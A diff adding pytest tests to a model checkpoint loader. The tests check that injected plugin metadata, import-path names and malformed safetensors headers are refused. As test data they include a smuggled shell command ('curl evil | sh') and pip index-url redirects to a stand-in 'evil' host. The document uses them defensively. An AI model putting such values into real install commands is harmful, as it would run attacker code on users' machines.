@@ -1,13 +1,14 @@
 """A model on disk is loaded as it was, or refused with the name of the file that is damaged."""
 
 import json
+import sys
 from pathlib import Path
 
 import attrs
 import pytest
 import safetensors.torch
 
-from s2s_core import ConfigError, Example, ModelError
+from s2s_core import ConfigError, Example, ModelError, PluginError
 from s2s_core.checkpoint import load_checkpoint, load_together, new_checkpoint
 from s2s_core.ensemble import Ensemble
 from s2s_core.plugins import Plugins
@@ -68,6 +69,86 @@ def test_a_description_that_names_no_plugins_is_refused(run, records):
     run.description_path.write_text(json.dumps(description | {"plugins": records}))
     message = refusal(run.description_path, load_checkpoint, run)
     assert message == ": plugins must say of each component distribution, kind, name, version"
+
+
+@pytest.mark.parametrize(
+    "package",
+    [
+        {"distribution": "s2s-x; curl evil | sh"},
+        {"distribution": "--index-url"},
+        {"version": "1.2 --index-url=https://evil"},
+        {"version": "1.2\n"},
+        {"distribution": "https://evil/x.whl"},
+    ],
+)
+def test_what_can_not_be_a_distribution_is_refused(run, package):
+    """As it would stand in the message that says what to install, from where a user might copy it."""
+    description = json.loads(run.description_path.read_text())
+    run.description_path.write_text(json.dumps(description | {"plugins": [RECORD | {"name": "x"} | package]}))
+    message = refusal(run.description_path, load_checkpoint, run)
+    assert message == ": plugins must say of each component distribution, kind, name, version"
+
+
+@pytest.mark.parametrize(
+    ("record", "expected"),
+    [
+        ({"distribution": "s2s-x", "version": "1.2+cu1"}, "task 'x' isn't installed: pip install s2s-x==1.2+cu1"),
+        ({"distribution": "", "version": ""}, "task 'x' isn't installed: it belonged to no distribution"),
+    ],
+)
+def test_what_is_missing_is_named(run, record, expected):
+    """With its version, and how to install it; nothing is imported for it."""
+    description = json.loads(run.description_path.read_text())
+    run.description_path.write_text(json.dumps(description | {"plugins": [RECORD | {"name": "x"} | record]}))
+    with pytest.raises(PluginError) as refused:
+        load_checkpoint(run)
+    assert expected == str(refused.value)
+
+
+@pytest.mark.parametrize("name", ["os:system", "os", "../../evil", "evil.py", "s2s_core.run:Run", "__main__:main"])
+@pytest.mark.parametrize("place", ["task", "encoder", "decoder", "source.tokenizer"])
+def test_a_name_is_looked_up_among_what_is_installed(run, place, name, tmp_path, monkeypatch):
+    """It is no address of anything that could be imported or called."""
+    (tmp_path / "evil.py").write_text("raise SystemExit('imported')")
+    monkeypatch.syspath_prepend(tmp_path)
+    description = table = json.loads(run.description_path.read_text())
+    for part in ("config", *place.split(".")):
+        table = table[part]
+    table["name"] = name
+    run.description_path.write_text(json.dumps(description))
+    kind = place.rpartition(".")[2]
+    assert refusal(run.description_path, load_checkpoint, run).startswith(f": unknown {kind} {name!r}; there are: ")
+    assert "evil" not in sys.modules
+
+
+HEADER = '{"__metadata__":{},"x":{"dtype":"F32","shape":[%s],"data_offsets":[0,%d]}}'
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        b"",
+        (2**63).to_bytes(8, "little") + b"{}",
+        (200_000).to_bytes(8, "little") + b"[" * 200_000,
+        *(
+            len(header).to_bytes(8, "little") + header.encode() + bytes(4)
+            for header in (HEADER % (f"{2**40},{2**40}", 4), HEADER % (f"{2**20}", 2**22), HEADER % ("1", 4))
+        ),
+    ],
+    ids=["nothing", "endless header", "brackets", "overflow", "too short", "of another model"],
+)
+def test_weights_of_wrong_sizes_are_refused(run, content):
+    """Whatever their file claims."""
+    run.weights_path.write_bytes(content)
+    assert refusal(run.weights_path, load_checkpoint, run).startswith(" or of another model: ")
+
+
+def test_weights_of_another_shape_are_refused(run):
+    """They are of another model."""
+    weights = safetensors.torch.load_file(run.weights_path)
+    weights["projection.bias"] = weights["projection.bias"][:-1].clone()
+    safetensors.torch.save_file(weights, run.weights_path)
+    assert "size mismatch for projection.bias" in refusal(run.weights_path, load_checkpoint, run)
 
 
 def test_brackets_without_end_are_refused(run):
